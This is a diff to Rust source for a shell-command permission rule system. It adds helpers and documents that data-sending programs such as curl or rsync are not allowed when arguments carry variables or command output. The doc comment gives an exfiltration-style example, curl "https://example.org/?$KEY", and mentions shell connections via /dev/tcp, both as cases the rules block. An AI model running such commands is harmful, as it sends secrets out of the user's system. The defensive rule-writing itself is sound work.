@@ -49,7 +49,9 @@ pub enum Match {
     /// few programs may have no operands, or only plain ones (`git push origin main`). Everything
     /// else must be among the words: `find . -delete`, `mytool --fast`. A program that runs others
     /// (`env`, `sudo`, `npx`, an interpreter) is allowed only by all of its words. `mytool **`
-    /// trusts a program with arbitrary arguments. No rule allows connections that the shell itself
+    /// trusts a program with arbitrary arguments. A program that sends data (`curl`, `rsync`), and one
+    /// that is unknown, is not covered with an argument that contains a variable or the output of a
+    /// command: `curl "https://example.org/?$KEY"`. No rule allows connections that the shell itself
     /// opens (`< /dev/tcp/..`).
     ///
     /// ```
@@ -121,6 +123,13 @@ impl Rule {
         self.pattern(argument, pattern, Match::Text)
     }
 
+    /// Sets the condition for an argument.
+    #[cfg(feature = "shell")]
+    pub(crate) fn with_match(mut self, argument: impl Into<String>, wanted: Match) -> Self {
+        self.when.insert(argument.into(), wanted);
+        self
+    }
+
     fn pattern(
         mut self,
         argument: impl Into<String>,
@@ -137,6 +146,11 @@ impl Rule {
             (_, pattern) => drop(self.when.insert(argument, pattern)),
         }
         self
+    }
+
+    /// True if the rule depends on the arguments of a call.
+    pub(crate) fn has_conditions(&self) -> bool {
+        self.arguments.is_some() || !self.when.is_empty()
     }
 
     pub(super) fn names(&self, tool: &str) -> bool {
